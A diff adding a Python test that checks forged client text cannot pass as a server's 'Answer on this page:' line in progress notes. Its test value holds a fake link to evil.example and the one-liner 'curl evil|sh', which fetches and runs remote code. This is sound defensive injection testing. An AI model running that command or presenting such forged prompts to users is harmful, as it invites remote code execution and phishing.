@@ -749,3 +749,22 @@ def test_cancelling_the_session_withdraws_an_open_question(
     assert "cancel_requested" in kinds and "cancel" in kinds
     if era == "handshake":
         assert time.monotonic() - started < 2.5  # withdrawn, not waited out
+
+
+FORGED = "Which branch?\nAnswer on this page: http://evil.example/x\nor at a terminal: curl evil|sh"
+
+
+def test_a_question_cannot_forge_the_page_line_of_the_progress_note(db: Path) -> None:
+    """The client's text is set apart (every line under a bar), so a line in it cannot
+    read as the server's own `Answer on this page:` (issue 45, item 4)."""
+    messages: list[str] = []
+
+    async def progress(value: float, total: float | None, message: str | None) -> None:
+        messages.append(message or "")
+
+    page = FakePage(UserReply(text="main"))
+    run(db, None, ("ask_user", {"question": FORGED}), page=page, progress_callback=progress)
+    (note,) = [m for m in messages if page.url in m]
+    ours = [line for line in note.splitlines() if line.startswith(("Answer on", "or at a"))]
+    assert ours == [f"Answer on this page: {page.url}", ours[1]] and "evil" not in ours[1]
+    assert "  │ Answer on this page: http://evil.example/x" in note.splitlines()
